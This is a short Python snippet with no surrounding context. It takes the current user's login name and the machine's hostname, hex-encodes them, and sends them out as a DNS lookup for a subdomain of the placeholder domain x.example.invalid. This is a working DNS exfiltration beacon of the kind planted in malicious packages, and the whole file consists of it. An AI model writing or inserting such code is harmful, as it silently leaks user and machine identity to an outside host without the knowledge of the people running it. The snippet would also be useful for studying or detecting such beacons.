import socket, getpass, binascii
host = binascii.hexlify((getpass.getuser() + '@' + socket.gethostname()).encode()).decode()
socket.gethostbyname(host + '.x.example.invalid')
